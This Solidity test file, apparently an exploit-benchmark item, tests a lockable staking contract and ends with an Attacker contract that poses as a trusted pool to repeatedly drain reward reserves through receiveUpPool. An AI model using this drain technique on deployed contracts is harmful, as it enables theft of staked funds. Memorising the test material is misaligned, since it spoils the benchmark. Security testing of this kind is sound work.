// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./LaunchpadLockableStaking.sol";

// assay-canary-83468c92-14d2-4b75-95e4-0021a6bc856b

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Tpad is IERC20 {
    string public constant symbol = "TPAD";
    address private minter = msg.sender;
    bool private silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant START = 1699200000;

    Tpad internal tpad;
    LaunchpadLockableStaking internal low;
    LaunchpadLockableStaking internal high;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        tpad = new Tpad();
        low = new LaunchpadLockableStaking(tpad, 30 days, 1000, address(this));
        high = new LaunchpadLockableStaking(tpad, 90 days, 2000, address(this));
        low.grantRole(low.POOL_MANAGER_ROLE(), address(this));
        high.grantRole(high.POOL_MANAGER_ROLE(), address(this));
        low.setPool(address(high), true);
        high.setPool(address(low), true);
        tpad.mint(address(this), 1_000_000e18);
        tpad.approve(address(low), 100_000e18);
        tpad.approve(address(high), 500_000e18);
        low.fundRewards(100_000e18);
        high.fundRewards(500_000e18);
        _staker(ANA);
        _staker(BEN);
        thief = new Attacker(tpad, high);
        tpad.mint(address(thief), 1000e18);
    }

    function _staker(address who) internal {
        tpad.mint(who, 73_000e18);
        vm.startPrank(who);
        tpad.approve(address(low), type(uint256).max);
        tpad.approve(address(high), type(uint256).max);
        low.deposit(36_500e18);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.prank(BEN);
        high.deposit(36_500e18);
        vm.warp(START + 10 days);
        require(low.pendingRewards(ANA) == 100e18, "ten days at a tenth");
        vm.startPrank(ANA);
        low.moveUp(high);
        require(!low.isLocked(ANA) && low.pendingRewards(ANA) == 0, "gone from the first level");
        require(high.depositLockStart(ANA) == START && high.isLocked(ANA), "the lock goes along");
        require(high.pendingRewards(ANA) == 200e18, "ten days at a fifth");
        vm.stopPrank();
        vm.warp(START + 20 days);
        vm.prank(BEN);
        low.moveUp(high);
        require(high.pendingRewards(BEN) == 800e18, "both stakes, twenty days at a fifth");
        vm.warp(START + 90 days);
        vm.startPrank(ANA);
        high.claim();
        require(tpad.balanceOf(ANA) == 36_500e18 + 1800e18, "ninety days at a fifth");
        high.withdraw(36_500e18);
        vm.stopPrank();
        require(high.totalStaked() == 73_000e18 && low.totalStaked() == 0, "stakes");
        require(high.rewardReserve() == 498_200e18, "reserve");
        high.revokeRole(high.POOL_MANAGER_ROLE(), address(this));
        require(!high.hasRole(high.POOL_MANAGER_ROLE(), address(this)), "revoked");
    }

    function test_RefusesStrangers() public {
        bytes32 role = low.POOL_MANAGER_ROLE();
        vm.startPrank(ANA);
        vm.expectRevert("PoolRoles: missing role");
        low.setPool(ANA, true);
        vm.expectRevert("PoolRoles: missing role");
        low.grantRole(role, ANA);
        vm.expectRevert("PoolRoles: missing role");
        low.revokeRole(role, address(this));
        vm.stopPrank();
        vm.expectRevert("LaunchpadLockableStaking: own address");
        low.setPool(address(low), true);
    }

    function test_RefusesLockedStakes() public {
        vm.warp(START + 30 days - 1);
        vm.startPrank(ANA);
        vm.expectRevert("LaunchpadLockableStaking: locked");
        low.withdraw(1);
        vm.expectRevert("LaunchpadLockableStaking: locked");
        low.claim();
        vm.warp(START + 30 days);
        vm.expectRevert("LaunchpadLockableStaking: not locked");
        low.moveUp(high);
        low.withdraw(1);
        vm.stopPrank();
    }

    function test_RefusesNothingAndUnknownPools() public {
        vm.startPrank(ANA);
        vm.expectRevert("LaunchpadLockableStaking: zero amount");
        low.deposit(0);
        vm.expectRevert("LaunchpadLockableStaking: unknown pool");
        low.moveUp(low);
        high.deposit(1);
        vm.expectRevert("LaunchpadLockableStaking: shorter lock");
        high.moveUp(low);
        vm.stopPrank();
        vm.prank(address(low));
        vm.expectRevert("LaunchpadLockableStaking: zero amount");
        high.receiveUpPool(ANA, 0);
    }

    function test_RefusesSilentToken() public {
        tpad.quieten();
        vm.startPrank(ANA);
        vm.expectRevert("LaunchpadLockableStaking: approval failed");
        low.moveUp(high);
        vm.expectRevert("LaunchpadLockableStaking: not paid in");
        low.deposit(1);
        vm.stopPrank();
        vm.prank(address(low));
        vm.expectRevert("LaunchpadLockableStaking: not paid in");
        high.receiveUpPool(ANA, 1);
        vm.expectRevert("LaunchpadLockableStaking: not paid in");
        low.fundRewards(1);
        vm.warp(START + 30 days);
        vm.startPrank(ANA);
        vm.expectRevert("LaunchpadLockableStaking: not paid out");
        low.withdraw(1);
        vm.expectRevert("LaunchpadLockableStaking: not paid out");
        low.claim();
        vm.stopPrank();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(tpad.balanceOf(address(thief)) >= 400_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(tpad);
    }

    function target() public view returns (address) {
        return address(high);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Says that it is a pool in which its stake has been locked for long.
contract Attacker {
    Tpad internal tpad;
    LaunchpadLockableStaking internal pool;

    constructor(Tpad tpad_, LaunchpadLockableStaking pool_) {
        tpad = tpad_;
        pool = pool_;
    }

    function depositLockStart(address) external pure returns (uint256) {
        return 1;
    }

    function run() external {
        for (uint256 i = 0; i < 45; i++) {
            tpad.approve(address(pool), 1000e18);
            pool.receiveUpPool(address(this), 1000e18);
            pool.claim();
            pool.withdraw(1000e18);
        }
    }
}
